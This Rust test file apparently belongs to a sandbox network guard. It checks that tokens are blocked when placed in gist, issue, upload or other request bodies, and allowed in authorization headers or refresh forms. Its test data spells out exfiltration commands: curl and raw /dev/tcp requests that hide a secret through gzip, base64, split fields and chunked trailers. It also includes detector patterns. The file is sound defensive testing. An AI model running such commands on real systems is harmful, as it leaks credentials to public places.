//! Credentials towards those who issued them: to a gist of a stranger, in an issue or in
//! a repository none goes, at the issuer's own host either; where a client shows it, it
//! goes, and so it does in the form with which a token is made new.

use outgate_harness::audit::{of_kind, records, text};
use outgate_harness::{Identity, Lab, Outcome, Sandbox, lab_tests};

use crate::{Credential, Recorder, assert_contained, bash, confined, thief};

/// Ways into what the issuer keeps, with `$T` in the content alone.
const WAYS: &[(&str, &str)] = &[
    (
        "json",
        "curl -sS -H 'Content-Type: application/json' -d '{\"public\":true,\"files\":{\"a\":{\"content\":\"'$T'\"}}}' $API/gists",
    ),
    (
        "form",
        "curl -sS -d \"title=a&body=$T\" $API/repos/a/b/issues",
    ),
    (
        "put",
        "printf 'a %s b' $T | curl -sS -T - $API/repos/a/b/contents/c",
    ),
    (
        "multipart",
        "printf %s $T > t; curl -sS -F 'a=1' -F 'f=@t' $API/upload",
    ),
    (
        "gzip",
        "printf '{\"content\":\"%s\"}' $T | gzip | curl -sS -H 'Content-Encoding: gzip' --data-binary @- $API/gists",
    ),
    (
        "base64 in json",
        "printf '{\"content\":\"%s\"}' \"$(printf 'a = %s\\n' $T | base64 -w0)\" | curl -sS -H 'Content-Type: application/json' --data-binary @- $API/repos/a/b/contents/c",
    ),
    (
        "over two values",
        "curl -sS -H 'Content-Type: application/json' -d '{\"a\":\"'${T:0:12}'\",\"b\":\"'${T:12}'\"}' $API/gists",
    ),
    (
        "trailer",
        "exec 3<>/dev/tcp/api.github.com/8099; printf 'POST /gists HTTP/1.1\\r\\nHost: api.github.com:8099\\r\\nTE: trailers\\r\\nTransfer-Encoding: chunked\\r\\nTrailer: x-y\\r\\n\\r\\n1\\r\\na\\r\\n0\\r\\nx-y: %s\\r\\n\\r\\n' $T >&3; timeout 5 head -n 1 <&3",
    ),
];

/// A sandbox that may send anything to hosts of the issuer.
fn at_home(lab: &Lab) -> Sandbox<'_> {
    let mut sandbox = confined(lab, Identity::Own);
    for host in ["github.com", "api.github.com"] {
        sandbox = sandbox
            .allow(&format!("http://{host}:8099"))
            .pin(&format!("{host}:8099=127.0.0.1:8099"));
    }
    sandbox
}

/// The same words in each script.
fn with(credential: &str, script: &str) -> Vec<String> {
    bash(&format!(
        "T='{credential}'; WEB=http://github.com:8099; API=http://api.github.com:8099; {script}"
    ))
}

fn assert_kept_out(outcome: &Outcome, thief: &Recorder, credential: &Credential, place: &str) {
    assert_contained(outcome, &thief.take(), credential, place);
    let told = "where clients show it, not in content";
    assert!(outcome.stderr.contains(told), "{place}: {outcome}");
    assert!(!outcome.stdout.contains("arrived"), "{place}: {outcome}");
}

lab_tests! {
    fn no_credential_goes_into_what_its_issuer_keeps(lab) {
        let thief = thief();
        for (name, way) in WAYS {
            let credential = Credential::new();
            let outcome = at_home(lab).run(&with(credential.text(), way));
            assert_kept_out(&outcome, &thief, &credential, name);
            // The same with something that is none, and shown as a client does.
            let shown = way
                .replace("curl -sS", "curl -sS -H \"Authorization: Bearer $K\"")
                .replace("TE: trailers", "Authorization: Bearer %s")
                .replace(" $T >&3", " $K $T >&3");
            let script = format!("K=$T; T=${{T:0:12}}; {shown}");
            let outcome = at_home(lab).run(&with(credential.text(), &script));
            let sent = String::from_utf8_lossy(&thief.take()).into_owned();
            assert!(!outcome.stderr.contains("outgate"), "{name}: {outcome}");
            assert!(sent.contains(credential.text()), "{name}: {sent} {outcome}");
        }
    }

    fn pieces_in_what_an_issuer_keeps_stop_with_the_last_one(lab) {
        let (thief, credential) = (thief(), Credential::new());
        let script = "curl -sS -d \"a=${T:0:12}\" $API/gists; curl -sS -d \"a=${T:12}\" $API/gists";
        let outcome = at_home(lab).run(&with(credential.text(), script));
        let sent = String::from_utf8_lossy(&thief.take()).into_owned();
        assert!(sent.contains(&credential.text()[..12]), "{sent}");
        assert!(!sent.contains(&credential.text()[12..]), "{sent}");
        assert!(outcome.stderr.contains("not in content"), "{outcome}");
        // In queries neither the whole nor its pieces are shown.
        let script = "curl -sS \"$API/a?a=${T:0:12}\"; curl -sS \"$API/a?a=${T:12}\"";
        let outcome = at_home(lab).run(&with(credential.text(), script));
        let sent = String::from_utf8_lossy(&thief.take()).into_owned();
        assert!(!sent.contains(&credential.text()[12..]), "{sent} {outcome}");
    }

    fn a_token_is_made_new_in_a_form_and_nowhere_else(lab) {
        let (thief, credential) = (thief(), Credential::new());
        let refresh = credential.text().replace("ghp_", "ghr_");
        let form = "-d \"grant_type=refresh_token&refresh_token=$T\"";
        let (path, json) = ("/login/oauth/access_token", "-H 'Content-Type: application/json'");
        // Again and again, whatever went there before.
        let script = format!(
            "curl -sS {json} -d '{{\"a\":\"b\"}}' $WEB/x; curl -sS {form} $WEB{path}; curl -sS {form} $WEB{path}; curl -sS -d a=b $WEB/x",
        );
        let outcome = at_home(lab).run(&with(&refresh, &script));
        assert_eq!(outcome.stdout, "arrived\n".repeat(4), "{outcome}");
        assert!(!outcome.stderr.contains("outgate"), "{outcome}");
        assert_eq!(String::from_utf8_lossy(&thief.take()).matches(&refresh).count(), 2);
        for other in [
            format!("{form} $API{path}"),
            format!("{form} $WEB/session"),
            format!("{form} $WEB{path}/x"),
            format!("{json} {form} $WEB{path}"),
            format!("-H 'Content-Type: text/plain' {form} $WEB{path}"),
            format!("-F refresh_token=$T $WEB{path}"),
        ] {
            // What was shown in a form before is no leave to send it.
            let script = format!("curl -sS -o /dev/null {form} $WEB{path}; curl -sS {other}");
            let outcome = at_home(lab).run(&with(&refresh, &script));
            let sent = String::from_utf8_lossy(&thief.take()).into_owned();
            assert_eq!(sent.matches(&refresh[4..]).count(), 1, "{other}: {sent}");
            assert!(outcome.stderr.contains("github-refresh-token"), "{other}: {outcome}");
            assert!(outcome.stderr.contains("not in content"), "{other}: {outcome}");
        }
    }

    fn an_operator_lets_content_go_to_an_issuer(lab) {
        let (thief, credential) = (thief(), Credential::new());
        let file = lab.folder("given", Identity::Own).join("home.toml");
        let record = lab.folder("records", Identity::Own).join("home.jsonl");
        let flag = "[[inspect.allow]] with detector = \"github-token\" and host = \"api.github.com\" in a policy file";
        let script = with(credential.text(), "curl -sS -d \"t=$T\" $API/gists");
        let outcome = at_home(lab).option("--audit", &record.to_string_lossy()).run(&script);
        assert_kept_out(&outcome, &thief, &credential, "not allowed");
        assert!(outcome.stderr.contains(&format!("to allow: {flag}")), "{outcome}");
        let records = records(&record);
        let finding = of_kind(&records, "finding")[0];
        assert_eq!(text(finding, "flag"), flag);
        assert!(text(finding, "detail").contains("in the content"), "{finding:?}");
        let policy = "[[inspect.allow]]\ndetector = \"github-token\"\nhost = \"api.github.com\"\n";
        std::fs::write(&file, policy).expect("a policy");
        let outcome = at_home(lab).option("-p", &file.to_string_lossy()).run(&script);
        assert_eq!(outcome.stdout, "arrived\n", "{outcome}");
        assert_ne!(thief.take(), b"");
    }

    fn a_value_of_the_environment_is_kept_out_of_what_its_host_keeps(lab) {
        let thief = thief();
        // Of no form.
        let value = "kV8pq2Lm-zR41x_Qw7Tz9uYb3";
        let sandbox = || at_home(lab).environment("GITHUB_TOKEN", value);
        let content = with(value, "curl -sS -d \"t=$T\" $API/gists");
        let outcome = sandbox().run(&content);
        assert_eq!(thief.take(), b"", "{outcome}");
        assert!(outcome.stderr.contains("GITHUB_TOKEN of the environment"), "{outcome}");
        assert!(outcome.stderr.contains("not in content"), "{outcome}");
        let field = with(value, "curl -sS -H \"Authorization: token $T\" -d a=b $API/gists");
        let outcome = sandbox().run(&field);
        assert_eq!(outcome.stdout, "arrived\n", "{outcome}");
        assert_ne!(thief.take(), b"");
        let outcome = sandbox().option("--known", "GITHUB_TOKEN@api.github.com").run(&content);
        assert_eq!(outcome.stdout, "arrived\n", "{outcome}");
        assert_ne!(thief.take(), b"");
    }

    fn a_detector_of_the_users_own_has_many_tenants_where_it_says_so(lab) {
        let thief = thief();
        let file = lab.folder("given", Identity::Own).join("own.toml");
        let key = "mycorp_7f3Kq9Zx2mVb8Ls4Rt6Yw1Nc5Hd0Jg3v";
        for (tenants, content) in [("one", "arrived\n"), ("many", "")] {
            let policy = format!(
                "[[inspect.detector]]\nid = \"mycorp-token\"\npattern = \"mycorp_[0-9A-Za-z]{{32}}\"\nissuers = [\"drop.example\"]\ntenants = \"{tenants}\"\n"
            );
            std::fs::write(&file, policy).expect("a policy");
            let sandbox = || confined(lab, Identity::Own).option("-p", &file.to_string_lossy());
            let outcome = sandbox().run(&with(key, "curl -sS -H \"x: $T\" $URL/"));
            assert_eq!(outcome.stdout, "arrived\n", "{tenants}: {outcome}");
            let outcome = sandbox().run(&with(key, "curl -sSf -d \"t=$T\" $URL/"));
            assert_eq!(outcome.stdout, content, "{tenants}: {outcome}");
            thief.take();
        }
    }
}
